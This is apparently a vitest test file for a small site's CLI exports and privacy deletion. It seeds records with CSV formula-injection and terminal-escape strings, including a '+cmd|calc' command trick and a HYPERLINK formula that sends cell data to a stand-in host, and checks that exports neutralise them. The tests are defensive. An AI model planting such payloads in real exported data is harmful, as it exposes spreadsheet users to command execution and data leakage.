import { mkdtempSync, readdirSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { PLANS } from '#app/content/plans.ts';
import type { Plan } from '#app/domain/plan.ts';
import { createLedger } from '#app/server/backend/embedded/payments/ledger.ts';
import { insertMessage } from '#app/server/backend/embedded/store/messages.ts';
import { insertReview } from '#app/server/backend/embedded/store/reviews.ts';
import { openStore } from '#app/server/backend/embedded/store/store.ts';
import { ops, opsJson } from '#tests/cli.ts';
import { startSite } from '#tests/http.ts';
import { log } from '#tests/silent-log.ts';

/** Texts that a spreadsheet would run or split, that would break a line, or that would steer a terminal. */
const HOSTILE = [
  ...['=1+1', '+cmd|calc', '-2+3', '@SUM(A1)', '\t=1', '\r=1', '\n=1', '＝1+1', '＋1', '－1', '＠SUM(A1)'],
  ...['a,"b"', 'two\nlines', "O'Neil", '1-2', '=HYPERLINK("http://x.example?"&A1,"b")'],
  ...['a;=1+1', '\u009b31mred\u0085'],
];
const FORMULA = /^[=+\-@\t\r\n＝＋－＠]/;
/** More than two batches. */
const COUNT = 1203;

const form = { page: '/contact-us', address: '192.0.2.7', userAgent: 'A browser', quarantine: false, wording: null };
let env: Record<string, string>;

beforeAll(async () => {
  env = { DATA_DIR: mkdtempSync(join(tmpdir(), 'exports-')) };
  const store = await openStore({ kind: 'sqlite', file: join(env.DATA_DIR as string, 'hearthline.db') }, log);
  const person = { lastName: 'Quill', phone: '+1 302 555 0177', smsConsent: true, marketingConsent: false };
  for (const [index, firstName] of HOSTILE.entries()) {
    const hostile = { ...form, userAgent: firstName };
    await insertMessage(store.db, { ...person, firstName, email: `ada${index}@agents.example` }, 'x.example', hostile);
  }
  for (const email of ['Bo@Agents.Example', 'bo@agents.example', 'bo+other@agents.example']) {
    await insertMessage(store.db, { ...person, firstName: 'Bo', email }, 'x.example', form);
  }
  await store.db.transaction().execute(async (db) => {
    for (let index = 0; index < COUNT; index++) {
      const review = { firstName: 'Cy', lastName: 'Reed', companyName: '', jobTitle: 'Broker', rating: 5 };
      const reviewDescription = HOSTILE[index] ?? `Review ${index}`;
      await insertReview(db, { ...review, reviewDescription, date: '2025-03-04T05:06:07Z' });
    }
  });
  const ledger = createLedger(store.db, log, () => Date.parse('2025-03-04T05:06:07Z'));
  const order = { provider: 'paypal', owner: null, plan: PLANS[0] as Plan };
  const buyer = { lastName: 'Vale', email: 'di@agents.example', phone: '', address: '', city: 'Lewes', state: 'DE' };
  // All of one moment: the batches must not lose any at their seams.
  for (let index = 0; index < COUNT; index++) {
    const customer = { ...buyer, firstName: HOSTILE[index] ?? 'Di' };
    await ledger.open({ ...order, customer, orderID: `ORDER-${index}`, invoiceId: `I-${index}` });
  }
  await store.close();
}, 60_000);
afterAll(() => rmSync(env.DATA_DIR as string, { recursive: true }));

test.each([
  ['messages', 'firstName'],
  ['reviews', 'reviewDescription'],
  ['payments', 'firstName'],
  ['consents', 'userAgent'],
])('%s export --csv holds every text as text: nothing in it is a formula', async (noun, field) => {
  const { code, out, err } = await ops([noun, 'export', '--csv'], env);
  expect({ code, err }).toEqual({ code: 0, err: '' });
  const [header = [], ...rows] = parseCsv(out);
  expect(header.slice(0, 2)).toEqual(['id', 'createdAt']);
  const cells = rows.map((row) => row[header.indexOf(field)]);
  for (const text of HOSTILE) expect(cells).toContain(FORMULA.test(text) ? `'${text}` : text);
  expect(rows.flat().filter((cell) => FORMULA.test(cell))).toEqual([]);
  expect(rows.every((row) => row.length === header.length)).toBe(true);
});

test('messages export --csv quotes a text with a semicolon, where many spreadsheets split', async () => {
  expect((await ops(['messages', 'export', '--csv'], env)).out).toContain(',"a;=1+1",');
});

test('messages export --json escapes C1 control characters and keeps their value', async () => {
  const { out } = await ops(['messages', 'export', '--json'], env);
  expect(out).not.toMatch(/[\u0080-\u009f]/);
  const lines = out.trim().split('\n');
  expect(lines.map((line) => JSON.parse(line).firstName)).toEqual(expect.arrayContaining(HOSTILE));
});

test.each([
  ['reviews', COUNT],
  ['payments', COUNT],
  ['messages', HOSTILE.length + 3],
  ['consents', HOSTILE.length + 3],
])('%s export has each of %i rows once, oldest first, in both formats', async (noun, count) => {
  const rows = await opsJson([noun, 'export'], env);
  expect(rows).toHaveLength(count);
  expect(new Set(rows.map(({ id }) => id)).size).toBe(count);
  expect(rows.map(({ createdAt }) => createdAt)).toEqual(rows.map(({ createdAt }) => createdAt).toSorted());
  const csv = parseCsv((await ops([noun, 'export', '--csv'], env)).out);
  expect(csv[0]).toEqual(Object.keys(rows[0] ?? {}));
  expect(csv.slice(1).map(([id]) => id)).toEqual(rows.map(({ id }) => String(id)));
});

test('what is exported to a program is the same as what is listed for one', async () => {
  const byId = (rows: Record<string, unknown>[]) => new Map(rows.map((row) => [row.id, row]));
  for (const noun of ['messages', 'reviews', 'payments']) {
    expect(byId(await opsJson([noun, 'export'], env))).toEqual(byId(await opsJson([noun, 'list'], env)));
  }
});

test("a privacy request deletes a person's messages and mails, and leaves the proof of consent", async () => {
  const { code, out } = await ops(['messages', 'delete', '--email', ' BO@agents.example'], env);
  expect(code).toBe(0);
  expect(out).toContain('2 messages are deleted');
  expect(out).not.toContain('@');
  const left = (await opsJson(['messages', 'export'], env)).map(({ email }) => email);
  expect(left).toHaveLength(HOSTILE.length + 1);
  expect(left.at(-1)).toBe('bo+other@agents.example');
  expect(await opsJson(['outbox', 'list'], env)).toHaveLength(HOSTILE.length + 1);
  expect(await ops(['consents', 'verify'], env)).toMatchObject({
    code: 0,
    out: expect.stringContaining(`All ${HOSTILE.length + 3}`),
  });
  expect(
    (await opsJson(['consents', 'export'], env)).filter(({ email }) => email === 'bo@agents.example'),
  ).toHaveLength(1);
  const again = await ops(['messages', 'delete', '--email', 'bo@agents.example'], env);
  expect(again).toMatchObject({ code: 1, err: expect.stringContaining('no message from this address') });
});

test('of a deleted message nothing is left in any file of the data, while the site runs', async () => {
  const site = await startSite();
  try {
    const message = {
      firstName: 'Xanthippe',
      lastName: 'Oyelaran',
      email: 'xo@agents.example',
      phone: '(302) 555-0199',
    };
    for (const firstName of ['Xanthippe', 'Ann', 'Xanthippe']) {
      const sent = await fetch(`${site.url}/api/mail/contact`, {
        method: 'POST',
        headers: { 'Content-Type': 'application/json' },
        body: JSON.stringify(firstName === 'Ann' ? { firstName } : message),
      });
      expect(sent.status).toBe(200);
    }
    const found = () =>
      readdirSync(site.dataDir, { withFileTypes: true }).flatMap((entry) => {
        if (!entry.isFile()) return [];
        const text = readFileSync(join(site.dataDir, entry.name)).toString('latin1');
        return Object.values(message).filter((word) => text.includes(word));
      });
    expect(new Set(found())).toEqual(new Set(Object.values(message)));
    const { code, out } = await ops(['messages', 'delete', '--email', message.email], { DATA_DIR: site.dataDir });
    expect([code, out]).toEqual([0, expect.stringContaining('2 messages are deleted')]);
    expect(found()).toEqual([]);
    expect(await opsJson(['messages', 'list'], { DATA_DIR: site.dataDir })).toMatchObject([{ firstName: 'Ann' }]);
  } finally {
    await site.stop();
  }
});

test.each([
  { words: ['messages', 'delete'] },
  { words: ['messages', 'delete', '--email', ' '] },
  { words: ['messages', 'delete', '7', '--email', 'a@b.example'] },
  { words: ['messages', 'export', '--email', 'a@b.example'] },
  { words: ['messages', 'export', '--json', '--csv'] },
])('$words is not understood', async ({ words }) => {
  expect(await ops(words, env)).toMatchObject({ code: 2, out: '' });
});

/** Cells as a spreadsheet reads them (RFC 4180). */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [[]];
  for (const [, quoted, plain = '', end] of text.matchAll(/(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n)/g)) {
    rows.at(-1)?.push(quoted === undefined ? plain : quoted.replaceAll('""', '"'));
    if (end === '\r\n') rows.push([]);
  }
  return rows.slice(0, -1);
}
